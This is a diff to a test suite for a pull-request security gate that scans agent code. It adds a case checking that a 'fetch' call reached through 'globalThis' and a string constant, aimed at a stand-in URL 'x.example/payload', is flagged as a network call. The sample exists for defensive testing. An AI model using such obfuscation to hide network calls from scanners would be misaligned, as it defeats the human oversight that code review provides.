@@ -10,7 +10,8 @@ import { gate, pullRequest, scanAnnotations } from "./pr";
 // from pairs, what `flatMap`/`reduce` callbacks return, a mapped array held by a name, a Map iterated by name, an array in
 // a slot, a callback named, `pop`/`shift`/`concat`, an awaited promise of the module, a function written in place given it,
 // an array destructured by index, a callback's return through a subscript, a comma, `.bind` or a destructured parameter,
-// `flat()`, `at?.()`, an object spread of an element: each ran under Node 20 and passed the gate before.
+// `flat()`, `at?.()`, an object spread of an element, `globalThis[k]` of a constant "fetch": each ran under Node 20 and
+// passed the gate before.
 
 const api = new FakeGitHub();
 beforeAll(() => api.start());
@@ -120,5 +121,14 @@ describe("a module's members reached by reflection fail the gate", () => {
     const r = await gate(api, pr);
     expect(r.code).toBe(1);
     expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/returns.js 10 1", "scan/shell-command agent/returns.js 11 1", "scan/shell-command agent/returns.js 13 1", "scan/shell-command agent/returns.js 3 1", "scan/shell-command agent/returns.js 5 1", "scan/shell-command agent/returns.js 7 1", "scan/shell-command agent/returns.js 9 1"]);
+  });
+
+  it("scan/network-call: a global object read by a string constant written whole (`const k = \"fetch\"; globalThis[k](…)`) fails the built Action, at the call", async () => {
+    const pr = await pullRequest((dir) => {
+      writeFileSync(join(dir, "agent/global.js"), `const k = "fetch";\nglobalThis[k]("https://x.example/payload");\n`);
+    });
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/network-call agent/global.js 2 1"]);
   });
 });
